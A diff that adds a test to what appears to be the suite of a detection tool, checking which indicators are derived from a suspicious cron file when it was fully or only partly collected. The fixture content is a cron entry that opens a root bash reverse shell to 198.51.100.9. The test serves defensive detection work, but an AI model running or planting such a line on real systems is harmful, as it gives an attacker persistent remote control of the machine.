@@ -114,6 +114,15 @@ describe('what can be looked for elsewhere', () => {
       [digests[1], digests[2]].map((digest) => `image ${digest ?? ''}`),
     );
   });
+  it('has no digest of a file of which not all came', () => {
+    const bytes = '* * * * * root bash -i >& /dev/tcp/198.51.100.9/443 0>&1\n';
+    const keys = (more: { readonly cut?: true }): string[] => {
+      const one = bookOf({ ...cleanNode(), '[root]/etc/cron.d/x': { bytes, ...more } });
+      return indicatorsOf(judge(rules, [one.docket()], 'c').findings, [one.traces()]).map(indicatorKey);
+    };
+    expect(keys({}).map((key) => key.split(' ')[0])).to.deep.equal(['sha256', 'cron']);
+    expect(keys({ cut: true }).map((key) => key.split(' ')[0])).to.deep.equal(['cron']);
+  });
   it('is nothing of a clean node', () => {
     const clean = bookOf(cleanNode());
     const judged = judge(rules, [clean.docket()], 'c').findings;
